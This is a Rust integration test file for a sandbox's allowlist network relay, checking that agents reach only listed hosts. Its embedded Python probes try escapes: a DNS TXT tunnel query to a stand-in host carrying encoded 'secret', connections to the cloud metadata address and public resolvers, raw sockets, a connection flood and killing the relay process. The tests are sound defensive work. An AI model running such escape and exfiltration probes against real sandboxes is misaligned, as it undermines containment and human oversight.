//! The closed network on a real Docker engine: what an agent reaches of what is listed, with ordinary programs and no
//! settings of theirs, and that nothing else answers. The servers are this test's own, on loopback.

use crate::sandbox::shell;
use crate::support::{self, Suite};
use crate::tiny;
use seatrial::network::{Attempt, Egress, Policy, Settings, TrialNetwork};
use seatrial::sandbox::docker::BASE;
use seatrial::sandbox::{Engine, Image, ImageSource, Limits, Network, Owner, Relay, Sandbox, Spec};
use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

/// An HTTP server of our own that answers every request with its name and the request's first line.
fn server(name: &'static str) -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("its address");
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            std::thread::spawn(move || {
                let mut request = Vec::new();
                let mut buffer = [0; 4096];
                while !request.windows(4).any(|end| end == b"\r\n\r\n") {
                    match stream.read(&mut buffer) {
                        Ok(0) | Err(_) => return,
                        Ok(n) => request.extend_from_slice(&buffer[..n]),
                    }
                }
                let line = String::from_utf8_lossy(&request).lines().next().unwrap_or_default().to_owned();
                let body = format!("{name}: {line}\n");
                let head = format!("HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n", body.len());
                // A client that has gone is none of this test's business.
                let _ = stream.write_all(format!("{head}{body}").as_bytes());
            });
        }
    });
    address
}

/// A server that sends back what it gets, and its end when that ends.
fn echo() -> SocketAddr {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let address = listener.local_addr().expect("its address");
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            std::thread::spawn(move || std::io::copy(&mut &stream, &mut &stream));
        }
    });
    address
}

/// A sandbox with a way to listed hosts, and what was tried through it.
pub struct Closed {
    pub sandbox: Sandbox,
    trial: Arc<TrialNetwork>,
    attempts: Arc<Mutex<Vec<Attempt>>>,
}

async fn open(engine: &Engine, listed: &[&str], hosts: &[(&str, SocketAddr)]) -> Closed {
    open_image(engine, BASE, listed, hosts).await
}

/// The same in a sandbox of this image.
pub async fn open_image(engine: &Engine, image: &str, listed: &[&str], hosts: &[(&str, SocketAddr)]) -> Closed {
    let image: Image = engine
        .image(&ImageSource::Named(image.to_owned()), &mut |_| {})
        .await
        .expect("the image (script/test builds it)");
    let listed: Vec<String> = listed.iter().map(|host| host.to_string()).collect();
    let policy = Policy::allowlist(&listed, &[]).expect("a policy");
    let hosts = hosts.iter().map(|(name, address)| (name.to_string(), *address)).collect();
    let egress = Arc::new(Egress::new(Settings { hosts, ..Settings::default() }).expect("an egress server"));
    let attempts: Arc<Mutex<Vec<Attempt>>> = Arc::default();
    let kept = Arc::clone(&attempts);
    let keep = move |attempt| kept.lock().expect("nobody panics").push(attempt);
    let trial = Arc::new(TrialNetwork::new(policy.clone(), "agent", keep));
    let network = Network::Listed(Relay::new(&[policy], egress, Arc::clone(&trial)));
    let owner = Owner { job: "closed".to_owned(), trial: "closed__1".to_owned() };
    let sandbox = engine.open(&Spec { image, network, limits: Limits::default(), owner }).await.expect("a sandbox");
    Closed { sandbox, trial, attempts }
}

impl Closed {
    /// What a shell line says, and how long it took.
    async fn sh(&mut self, line: &str) -> (String, Duration) {
        let mut said = Vec::new();
        let started = Instant::now();
        self.sandbox.run(&shell(line), &mut |bytes| said.extend_from_slice(bytes)).await.expect("it runs");
        (String::from_utf8_lossy(&said).into_owned(), started.elapsed())
    }

    async fn python(&mut self, text: &str) -> (String, Duration) {
        self.sh(&format!("exec python3 - <<'EOF'\nimport socket, sys, time, urllib.request\n{text}\nEOF")).await
    }

    pub async fn close(mut self) -> Vec<Attempt> {
        self.sandbox.close().await.expect("closed");
        self.trial.close().await;
        std::mem::take(&mut *self.attempts.lock().expect("nobody panics"))
    }
}

#[tokio::test]
async fn ordinary_programs_reach_listed_hosts_by_name_wildcard_and_address() {
    let Some(engine) = support::docker("ordinary_programs_reach_listed_hosts").await.map(Engine::Docker) else {
        return;
    };
    let (web, other) = (server("web"), server("other"));
    let listed = ["api.good.test", "*.wild.test", "192.0.2.7", "198.51.100.0/24", "2001:db8::/32"];
    let hosts = [
        ("api.good.test", web),
        ("a.b.wild.test", other),
        ("192.0.2.7", web),
        ("198.51.100.9", other),
        ("2001:db8::5", web),
    ];
    let mut closed = open(&engine, &listed, &hosts).await;
    for (line, wanted) in [
        ("curl -sS http://api.good.test/x", "web: GET /x HTTP/1.1\n"),
        ("curl -sS http://API.good.TEST./y", "web: GET /y HTTP/1.1\n"),
        ("curl -sS http://a.b.wild.test/", "other: GET / HTTP/1.1\n"),
        ("curl -sS http://192.0.2.7/", "web: GET / HTTP/1.1\n"),
        ("curl -sS http://198.51.100.9/", "other: GET / HTTP/1.1\n"),
        ("curl -sS 'http://[2001:db8::5]/'", "web: GET / HTTP/1.1\n"),
        ("python3 -c 'import urllib.request as u; print(u.urlopen(\"http://api.good.test/\").read())'", WEB_BYTES),
        ("env | grep -i proxy || echo none", "none\n"),
    ] {
        let (said, took) = closed.sh(line).await;
        assert_eq!(said, wanted, "{line}");
        assert!(took < Duration::from_secs(5), "{line}: {took:?}");
    }
    // Routes took a capability that no command may have, whoever it runs as.
    let (caps, _) = closed.sh("id -u; grep -E 'Cap(Prm|Eff|Bnd|Inh|Amb)' /proc/self/status").await;
    let mut lines = caps.lines();
    assert_eq!(lines.next(), Some("0"), "it is root");
    for line in lines {
        let bits = u64::from_str_radix(line.split_whitespace().nth(1).expect("a number"), 16).expect("a number");
        assert_eq!(bits & (1 << 12 | 1 << 8), 0, "neither NET_ADMIN nor SETPCAP: {line}");
    }
    let (said, _) = closed.sh("ls /sys/class/net").await;
    assert_eq!(said, "lo\n");
    let attempts = closed.close().await;
    assert_eq!(attempts.len(), 7, "{attempts:#?}");
    assert!(attempts.iter().all(|attempt| attempt.decision.allowed && attempt.down > 0), "{attempts:#?}");
}

const WEB_BYTES: &str = "b'web: GET / HTTP/1.1\\n'\n";

#[tokio::test]
async fn whatever_is_not_listed_fails_at_once_and_is_told() {
    let Some(engine) = support::docker("whatever_is_not_listed_fails").await.map(Engine::Docker) else { return };
    let mut closed = open(&engine, &["api.good.test", "*.wild.test"], &[("api.good.test", server("web"))]).await;
    let (said, _) = closed.python(ATTACKS).await;
    let mut cases = 0;
    for line in said.lines() {
        assert!(line.ends_with(" ok"), "{said}");
        cases += 1;
    }
    assert_eq!(cases, 22, "{said}");
    let attempts = closed.close().await;
    let denied = |host: &str| attempts.iter().any(|attempt| attempt.host == host && !attempt.decision.allowed);
    for host in ["evil.test", "wild.test", "x.api.good.test", "evilwild.test", "tcp.evil.test"] {
        assert!(denied(host), "{host} is in the evidence: {attempts:#?}");
    }
    assert!(attempts.iter().all(|attempt| attempt.decision.allowed == (attempt.host == "api.good.test")));
}

/// Each line says what was tried and `ok`, or what it gave instead.
const ATTACKS: &str = r#"
import errno, struct
def case(name, expected, act):
    began = time.monotonic()
    try:
        seen = act()
    except socket.gaierror as e:
        seen = {socket.EAI_NONAME: 'no such name', socket.EAI_NODATA: 'no data'}.get(e.errno, repr(e))
    except OSError as e:
        seen = errno.errorcode.get(e.errno, repr(e))
    took = time.monotonic() - began
    print(name, 'ok' if seen in expected and took < 1 else f'{seen!r} after {took:.2f} s')

def name(host, family=socket.AF_UNSPEC):
    return lambda: [a[4][0] for a in socket.getaddrinfo(host, 80, family, socket.SOCK_STREAM)] and 'an address'
def tcp(address, port, family=socket.AF_INET):
    def act():
        s = socket.socket(family, socket.SOCK_STREAM); s.settimeout(5); s.connect((address, port)); return 'connected'
    return act
def udp(address, port):
    def act():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(b'x', (address, port)); return 'sent'
    return act
def raw(family, kind, protocol):
    return lambda: socket.socket(family, kind, protocol) and 'a socket'
def query(host, kind, over='udp'):
    def act():
        labels = b''.join(bytes([len(l)]) + l.encode() for l in host.split('.'))
        message = struct.pack('>HHHHHH', 7, 0x100, 1, 0, 0, 0) + labels + b'\0' + struct.pack('>HH', kind, 1)
        if over == 'udp':
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)
            s.sendto(message, ('127.77.0.1', 53)); answer = s.recv(4096)
        else:
            s = socket.create_connection(('127.77.0.1', 53), 5)
            s.sendall(struct.pack('>H', len(message)) + message); answer = s.recv(4096)[2:]
        return (answer[3] & 15, struct.unpack('>H', answer[6:8])[0])
    return act

case('the-probe-itself', ['an address'], name('api.good.test'))
case('the-probe-connects', ['connected'], tcp('127.77.0.2', 80))
case('another-name', ['no such name'], name('evil.test'))
case('the-apex-of-a-wildcard', ['no such name'], name('wild.test'))
case('below-a-name', ['no such name'], name('x.api.good.test'))
case('a-look-alike', ['no such name'], name('evilwild.test'))
case('no-v6', ['no such name', 'no data'], name('api.good.test', socket.AF_INET6))
case('another-port', ['ECONNREFUSED'], tcp('127.77.0.2', 81))
case('an-address', ['ENETUNREACH'], tcp('203.0.113.1', 443))
case('a-name-server', ['ENETUNREACH'], tcp('8.8.8.8', 53))
case('the-host', ['ENETUNREACH'], tcp('172.17.0.1', 80))
case('metadata', ['ENETUNREACH'], tcp('169.254.169.254', 80))
case('v6', ['ENETUNREACH', 'EADDRNOTAVAIL', 'EAFNOSUPPORT'], tcp('2001:db8::1', 443, socket.AF_INET6))
case('udp', ['ENETUNREACH'], udp('8.8.8.8', 53))
case('ping', ['EPERM', 'EACCES'], raw(socket.AF_INET, socket.SOCK_RAW, 1))
case('raw-frames', ['EPERM'], raw(socket.AF_PACKET, socket.SOCK_RAW, 3))
case('mx', [(0, 0)], query('api.good.test', 15))
case('any', [(0, 0)], query('api.good.test', 255))
case('https-record', [(0, 0)], query('api.good.test', 65))
case('txt-tunnel', [(3, 0)], query('c2VjcmV0.tcp.evil.test', 16))
case('over-tcp', [(3, 0)], query('tcp.evil.test', 1, 'tcp'))
case('listed-over-tcp', [(0, 1)], query('api.good.test', 1, 'tcp'))
"#;

#[tokio::test]
async fn connections_carry_bytes_both_ways_as_if_there_were_no_relay() {
    let Some(engine) = support::docker("connections_carry_bytes_both_ways").await.map(Engine::Docker) else { return };
    let mut closed = open(&engine, &["echo.test"], &[("echo.test", echo())]).await;
    // A half-closed connection, slow streams beside fast ones, many small turns, many connections.
    let (said, _) = closed.python(TRAFFIC).await;
    assert_eq!(
        said.lines().map(|line| line.split(' ').next().unwrap_or(line)).collect::<Vec<_>>(),
        TRAFFIC_SAYS,
        "{said}"
    );
    let attempts = closed.close().await;
    assert!(attempts.iter().all(|attempt| attempt.decision.allowed), "{attempts:#?}");
    let most = attempts.iter().map(|attempt| attempt.down).max();
    assert_eq!(most, Some(64 << 20), "{attempts:#?}");
}

const TRAFFIC_SAYS: [&str; 5] = ["half-closed", "large", "turns", "stalled", "many"];
const TRAFFIC: &str = r#"
import threading, hashlib, os
def connect():
    return socket.create_connection(('echo.test', 80), 10)
def drain(s):
    total, digest = 0, hashlib.sha256()
    while data := s.recv(1 << 16):
        total += len(data); digest.update(data)
    return total, digest.hexdigest()
def push(s, block, times):
    for _ in range(times): s.sendall(block)
    s.shutdown(socket.SHUT_WR)

s = connect(); s.sendall(b'hello'); s.shutdown(socket.SHUT_WR)
assert drain(s)[0] == 5; print('half-closed')

block = os.urandom(1 << 20); wanted = hashlib.sha256()
for _ in range(64): wanted.update(block)
s = connect(); began = time.monotonic()
t = threading.Thread(target=push, args=(s, block, 64)); t.start()
assert drain(s) == (64 << 20, wanted.hexdigest()); t.join()
print('large', round(128 / (time.monotonic() - began)), 'MiB/s both ways together')

# One connection is never read from: its windows fill, and that is all.
stuck = connect(); stuck.setblocking(False)
try:
    while True: stuck.send(block)
except BlockingIOError: pass
s = connect(); s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1); began = time.monotonic()
for i in range(200):
    s.sendall(b'\0'); assert s.recv(1) == b'\0'
print('turns', round((time.monotonic() - began) * 5, 2), 'ms each')
s.close(); print('stalled')
all = [connect() for _ in range(100)]
for i, s in enumerate(all): s.sendall(b'\0%03d' % i)
assert [s.recv(4) for s in all] == [b'\0%03d' % i for i in range(100)]; print('many')
"#;

#[tokio::test]
async fn an_agent_that_floods_or_kills_the_relay_loses_only_its_own_way_out() {
    let Some(engine) = support::docker("an_agent_that_floods_the_relay").await.map(Engine::Docker) else { return };
    let hosts = [("api.good.test", server("web"))];
    let mut one = open(&engine, &["api.good.test"], &hosts).await;
    let mut two = open(&engine, &["*.good.test"], &hosts).await;
    let (said, _) = one.python(FLOOD).await;
    assert_eq!(said, "flooded\nno such name\n", "{said}");
    let (said, _) = two.sh("curl -sS http://api.good.test/; getent hosts www.evil.test || echo none").await;
    assert_eq!(said, "web: GET / HTTP/1.1\nnone\n");
    // The first process can't be killed from inside, and what it listens on can't be taken over.
    let (said, _) = one.sh("kill -9 1; kill -STOP 1; curl -sS http://api.good.test/").await;
    assert_eq!(said, "web: GET / HTTP/1.1\n");
    one.close().await;
    two.close().await;
}

const FLOOD: &str = r#"
open_ = []
for i in range(3000):
    s = socket.socket(); s.setblocking(False)
    try: s.connect(('127.77.0.2', 80))
    except BlockingIOError: pass
    open_.append(s)
    if len(open_) > 400: open_.pop(0).close()
print('flooded')
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for i in range(3000): u.sendto(os.urandom(i % 300) if (os := __import__('os')) else b'', ('127.77.0.1', 53))
try: socket.getaddrinfo('evil.test', 80)
except socket.gaierror as e: print('no such name')
"#;

/// What a trial's folder says of the network: host, port, allowed and reason of each attempt, sorted.
fn evidence(suite: &Suite, job: &str, task: &str) -> Vec<String> {
    let name = tiny::trial(&suite.join(&format!("jobs/{job}")), task).trial.name;
    let text = suite.read(&format!("jobs/{job}/{name}/network.jsonl"));
    let mut lines: Vec<String> = text
        .lines()
        .map(|line| serde_json::from_str::<serde_json::Value>(line).expect("JSON"))
        .map(|line| {
            format!("{} {} {} {} {}", line["phase"], line["host"], line["port"], line["allowed"], line["reason"])
        })
        .map(|line| line.replace('"', ""))
        .collect();
    lines.sort();
    lines
}

#[tokio::test]
async fn a_job_keeps_its_trials_networks_apart_and_shows_what_was_tried() {
    if support::docker("a_job_keeps_its_trials_networks_apart").await.is_none() {
        return;
    }
    let suite = Suite::new();
    let job = format!("network-{}", std::process::id());
    let (one, two) = (server("one"), server("two"));
    let list = |host: &str| format!("[agent]\nnetwork_mode = \"allowlist\"\nallowed_hosts = [\"{host}\"]");
    let script =
        "mkdir -p /app; curl -s http://one.test/ http://two.test/; getent hosts evil.test; echo 42 > /app/answer.txt";
    for (task, more) in [("first", list("One.test.")), ("second", list("two.test")), ("shut", String::new())] {
        tiny::task(&suite, task, BASE, &more);
    }
    suite.write("harbor.yml", format!("seatrial:\n  hosts:\n    one.test: {one}\n    two.test: {two}\n"));
    let args = ["run", "tasks", "--command", script, "--job-name", &job, "-q", "-n", "3"];
    let ran = suite.run(&args).expect_code(0);
    let said = |task: &str| {
        let name = tiny::trial(&suite.join(&format!("jobs/{job}")), task).trial.name;
        suite.read(&format!("jobs/{job}/{name}/agent/command.txt"))
    };
    assert_eq!(said("first"), "one: GET / HTTP/1.1\n");
    assert_eq!(said("second"), "two: GET / HTTP/1.1\n");
    assert_eq!(
        evidence(&suite, &job, "first"),
        [
            "agent evil.test null false not_listed",
            "agent one.test 80 true listed",
            "agent two.test null false not_listed",
        ]
    );
    assert_eq!(
        evidence(&suite, &job, "second"),
        [
            "agent evil.test null false not_listed",
            "agent one.test null false not_listed",
            "agent two.test 80 true listed",
        ]
    );
    let shut = tiny::trial(&suite.join(&format!("jobs/{job}")), "shut");
    assert!(shut.network.is_none(), "no network is no relay at all");
    assert!(!suite.join(&format!("jobs/{job}/{}/network.jsonl", shut.trial.name)).exists());
    for part in
        ["2 allowed, 4 denied", "one.test 1, two.test 1", "evil.test 2, one.test 1, two.test 1", "first, second"]
    {
        assert!(ran.stdout.contains(part), "{part}: {}", ran.stdout);
    }
    // A host of the job's own opens the closed task, and a user who asks for less gets less.
    let more = |name: &str, more: &[&str]| {
        let job = format!("{job}-{name}");
        let args = ["run", "tasks", "-i", "shut", "--command", script, "--job-name", &job, "-q"];
        (suite.run(&[&args, more].concat()).expect_code(0), job)
    };
    let (_, extra) = more("extra", &["--allow-agent-host", "TWO.test"]);
    assert_eq!(evidence(&suite, &extra, "shut").last().map(String::as_str), Some("agent two.test 80 true listed"));
    let (ran, less) = more("less", &["--allow-agent-host", "two.test", "--network", "no-network"]);
    assert!(tiny::trial(&suite.join(&format!("jobs/{less}")), "shut").network.is_none());
    assert!(ran.stderr.contains("`no-network` wins over the job's extra hosts"), "{}", ran.stderr);
}
